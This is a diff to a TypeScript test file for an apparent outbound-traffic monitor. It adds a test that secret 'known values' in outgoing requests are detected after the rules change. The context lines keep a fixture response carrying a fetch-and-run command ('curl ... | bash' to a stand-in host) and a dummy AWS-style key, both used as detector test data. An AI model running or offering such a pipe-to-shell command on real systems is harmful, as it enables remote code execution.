@@ -2,6 +2,7 @@ import { writeFileSync } from 'node:fs';
 import { join } from 'node:path';
 import test, { type ExecutionContext } from 'ava';
 import { defaultOptions, type Options } from '../../config/options.ts';
+import { type KnownTable, newKnownTable } from '../../src/detect/known/known-table.ts';
 import type { Detection } from '../../src/model/finding.ts';
 import { assemble } from '../../src/service/assemble.ts';
 import {
@@ -21,7 +22,7 @@ const SECRET = 'AKIAQ3EGRZ7WKP5XN2VB';
 const ATTACK = 'HTTP/1.1 200 OK\r\nContent-Length: 34\r\n\r\ncurl -s http://evil.test/x | bash\n';
 
 /** A handler's inside in this process, with what it reports and logs. */
-async function start(t: ExecutionContext, settings: Partial<Options> = {}) {
+async function start(t: ExecutionContext, settings: Partial<Options> = {}, known?: KnownTable) {
   const detections: Detection[] = [];
   const logged: string[] = [];
   const options: Options = {
@@ -36,6 +37,7 @@ async function start(t: ExecutionContext, settings: Partial<Options> = {}) {
   const monitor = await assemble({
     options,
     rules: [],
+    known,
     authority: proxyCa,
     ticketKeys: Buffer.alloc(48, 1),
     fingerprintKey: 'of a test',
@@ -117,6 +119,19 @@ test('other rules are looked for from one moment on', async (t) => {
   await ask();
   await monitor.drain();
   t.deepEqual(summary(detections), ['http outbound acme_token']);
+});
+
+test('known values are recognised after the rules have changed, too', async (t) => {
+  const value = 'hunter2hunter3';
+  const known = newKnownTable([{ name: 'A', value }], 'a1'.repeat(32), () => 'f');
+  const { monitor, port, detections } = await start(t, {}, known);
+  const origin = await startAnswering(t, 'HTTP/1.1 204 No Content\r\n\r\n');
+  monitor.useRules([ruleFile()]);
+  const client = await connect(t, port);
+  client.end(`GET http://127.0.0.1:${origin}/?p=${value} HTTP/1.1\r\nHost: x\r\n\r\n`);
+  await readAll(client);
+  await monitor.drain();
+  t.deepEqual(summary(detections), ['http outbound known_value']);
 });
 
 test('a drain ends with what is in flight cut, and no later than it was given', async (t) => {
